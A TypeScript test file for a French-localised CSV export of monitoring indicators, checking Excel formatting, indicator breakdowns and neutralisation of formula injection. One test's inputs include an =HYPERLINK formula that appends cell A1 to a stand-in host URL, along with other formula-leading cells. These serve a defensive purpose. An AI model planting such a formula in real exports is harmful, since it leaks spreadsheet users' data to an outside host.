import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { asText, computeIndicators, indicatorsCsv, monthRange, toCsv } from '../../../../hub/indicators/index.js';
import { fixtureSources } from './fixture.js';

describe('CSV export', () => {
  it('round-trips accents, separators, quotes and line breaks, with a BOM, CRLF and ";" for French Excel', () => {
    const tricky = ['Aïssata "Ada" Diarra, née Koné', 'ligne 1\nligne 2\r\nligne 3', 'Ségou; Kayes', '', 'ɲɛmɔgɔya'];
    const text = toCsv(['a', 'b', 'c', 'd', 'e'], [tricky, [1, 2.5, true, null, undefined]]);
    assert.ok(text.startsWith('\ufeff'), 'UTF-8 byte-order mark for Excel');
    assert.ok(text.startsWith('\ufeffa;b;c;d;e\r\n'), '";" between cells, CRLF after the header');
    const rows = parse(text, { bom: true, delimiter: ';' });
    assert.deepEqual(rows[0], ['a', 'b', 'c', 'd', 'e']);
    assert.deepEqual(rows[1], tricky);
    // Numbers stay numbers, with the decimal comma French Excel reads.
    assert.deepEqual(rows[2], ['1', '2,5', 'oui', '', '']);
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP), and keeps phone numbers as text', () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1;"clic")', '+SUM(1;2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', 'Koné'];
    const text = toCsv(['v'], [...hostile.map((h) => [h]), [-3], [asText('+223 76 12 34 56')], [asText('0076123456')], [asText('=1+1')]]);
    const cells = parse(text, { bom: true, delimiter: ';', relax_column_count: true })
      .slice(1)
      .map((r) => r[0]!);
    for (let i = 0; i < hostile.length - 1; i += 1) assert.equal(cells[i], `'${hostile[i]}`, `cell ${i} starts with a quote mark`);
    assert.equal(cells[hostile.length - 1], 'Koné', 'ordinary text untouched');
    assert.equal(cells[hostile.length], '-3', 'a negative number is a number, not a formula');
    assert.equal(cells[hostile.length + 1], '="+223 76 12 34 56"', 'a phone number is a text formula Excel shows as typed');
    assert.equal(cells[hostile.length + 2], '="0076123456"', 'leading zeros kept');
    assert.equal(cells[hostile.length + 3], "'=1+1", 'text that is not a phone number is neutralised like any other');
  });

  it('exports the indicators with every disaggregation', () => {
    const report = computeIndicators(fixtureSources(), monthRange('2026-11'));
    const rows = parse<Record<string, string>>(indicatorsCsv(report, 'kayes-01'), { bom: true, columns: true, delimiter: ';' });
    assert.equal(rows.length, 6);
    const trained = rows.find((r) => r.indicateur === 'trained')!;
    assert.equal(trained['libellé'], 'Personnes formées');
    assert.equal(trained.total, '4');
    assert.equal(trained.femmes, '2');
    assert.equal(trained['sexe inconnu'], '1');
    assert.equal(trained['âge inconnu'], '1');
    assert.equal(trained['femmes 15-24 ans'], '1');
    assert.equal(trained['part des femmes'], '50 %');
    assert.equal(trained['part des jeunes (15-35 ans)'], '50 %');
    assert.equal(trained.du, '2026-11-01');
    assert.equal(trained.au, '2026-11-30');
    assert.equal(trained.commune, 'toutes');
  });
});
